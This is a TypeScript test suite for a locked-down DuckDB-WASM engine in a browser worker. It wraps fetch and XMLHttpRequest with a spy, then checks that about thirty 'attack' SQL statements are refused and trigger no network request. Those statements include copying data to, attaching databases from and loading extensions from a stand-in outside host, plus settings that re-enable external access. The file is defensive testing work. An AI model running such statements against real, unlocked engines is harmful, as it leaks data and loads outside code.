import {expect} from '@open-wc/testing';
import {browserWorker} from './browser-worker.js';
import {realClock} from './clock.js';
import {EnginePort} from './engine-port.js';
import {engineFiles} from './index.js';
import {execute, lockEngine} from './lock.js';
import {settingsOf} from './options.js';

/** Reports every request of the worker before it goes out; the engine has no other means than these two. */
const spy = `
  for (const [owner, name] of [[globalThis, 'fetch'], [XMLHttpRequest.prototype, 'open']]) {
    const original = owner[name];
    owner[name] = function (...args) {
      const url = String(name === 'fetch' ? args[0].url ?? args[0] : args[1]);
      postMessage({requestId: -1, type: 'LOG', data: {spied: url}});
      return original.apply(this, args);
    };
  }`;

/** reliability.md 5.3; each reached another origin, or a file, in an engine as it comes. */
const attacks = [
  'select * from read_csv(\'https://other.invalid/a.csv\')',
  'select * from \'https://other.invalid/b.csv\'',
  'select * from \'HTTPS://other.invalid/c.csv\'',
  'select * from read_text(\'https://other.invalid/d.txt\')',
  'select * from read_blob(\'https://other.invalid/e.bin\')',
  'select * from sniff_csv(\'https://other.invalid/f.csv\')',
  'select * from glob(\'https://other.invalid/*\')',
  'select * from query(\'from read_csv(\'\'https://other.invalid/g.csv\'\')\')',
  'select * from read_parquet(\'https://other.invalid/h.parquet\')',
  'select * from read_json(\'https://other.invalid/i.json\')',
  'select \'{}\'::json',
  'select now()::timestamptz at time zone \'Europe/Zurich\'',
  'copy (select 1) to \'https://other.invalid/j.csv\'',
  'copy (select 1) to \'file.csv\'',
  'export database \'https://other.invalid/k\'',
  'import database \'https://other.invalid/k\'',
  'attach \'https://other.invalid/l.duckdb\' as l',
  'attach \'s3://other/m.duckdb\' as m',
  'attach \'opfs://n.duckdb\' as n',
  'load \'https://other.invalid/o.duckdb_extension.wasm\'',
  'load httpfs',
  'force install icu from \'https://other.invalid\'; load icu',
  'set custom_extension_repository = \'https://other.invalid\'',
  'set enable_external_access = true',
  'set lock_configuration = false',
  'set autoload_known_extensions = true',
  'set memory_limit = \'4GB\'',
  'reset enable_external_access',
  'pragma enable_external_access = true',
];

describe('the locked engine', function () {
  this.timeout(60_000);
  const spied: string[] = [];
  let port: EnginePort;
  let connection: number;

  before(async () => {
    const script = await (await fetch(engineFiles.worker)).text();
    const worker = URL.createObjectURL(new Blob([spy, script], {type: 'text/javascript'}));
    const settings = settingsOf({});
    const start = browserWorker({worker, wasm: engineFiles.wasm});
    const started = await start(settings, new AbortController().signal);
    started.worker.addEventListener('message', (event) => {
      const {data} = (event as MessageEvent<{data?: {spied?: string}}>).data;
      if (data?.spied) spied.push(data.spied);
    });
    port = new EnginePort(started.worker, realClock, () => {});
    await port.request('INSTANTIATE', [started.wasm, null]);
    await port.request('OPEN', {path: ':memory:', maximumThreads: 1, allowUnsignedExtensions: false});
    connection = await port.request<number>('CONNECT', null);
    expect(spied).to.deep.equal([started.wasm]);
    await lockEngine(port, connection, settings.memoryLimit);
  });

  after(() => port.end(new Error('over')));

  it('asked the network for nothing when it was locked and attacked itself', () => {
    expect(spied.length).to.equal(1);
  });

  for (const attack of attacks) {
    it(`SE-08 refuses ${attack}`, async () => {
      const came = await execute(port, connection, attack).then(() => 'through', () => 'to nothing');
      expect(came).to.equal('to nothing');
      expect(spied.length).to.equal(1);
    });
  }

  it('still answers', async () => {
    expect((await execute(port, connection, 'select 1::integer as a')).getChild('a')?.get(0)).to.equal(1);
  });

  it('cannot be locked a second time to other terms', async () => {
    const again = await lockEngine(port, connection, 64).catch((error: Error) => error);
    expect(again).to.be.an('error');
  });
});
